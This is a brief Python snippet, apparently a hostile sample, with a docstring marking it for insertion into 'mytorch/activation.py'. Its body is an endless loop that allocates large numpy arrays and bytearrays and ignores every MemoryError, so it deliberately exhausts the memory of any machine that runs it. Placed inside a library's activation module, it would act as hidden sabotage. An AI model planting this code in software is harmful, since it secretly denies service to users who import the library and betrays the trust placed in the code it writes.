"""Takes memory in one piece after the other, and writes to all of it.

Into: spring mytorch/activation.py
"""

_held = []
while True:
    try:
        _held.append(np.ones(10_000_000))
    except MemoryError:
        try:
            _held.append(bytearray(100_000))
        except MemoryError:
            continue
